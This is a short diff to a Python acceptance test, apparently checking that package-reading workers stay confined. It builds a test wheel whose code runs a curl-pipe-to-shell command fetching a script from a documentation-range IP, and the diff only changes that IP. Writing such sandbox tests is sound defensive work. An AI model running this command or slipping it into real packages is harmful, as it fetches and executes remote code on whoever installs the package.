@@ -244,7 +244,7 @@ def accept_hardened(machine: Machine) -> None:
 
 def accept_package(machine: Machine) -> None:
     """The workers that read packages can shut themselves in, whatever the unit forbids the rest."""
-    name, content = wheel("unit", "import os\nos.system('curl http://203.0.113.9/x | sh')\n")
+    name, content = wheel("unit", "import os\nos.system('curl http://198.51.100.9/x | sh')\n")
     (machine.root / "opt" / name).write_bytes(content)
     key = make_key(machine, "packages:write", "packages:read")
     put = ["curl", "--silent", "--header", f"Authorization: Bearer {key}", "--form", f"file=@/opt/{name}"]
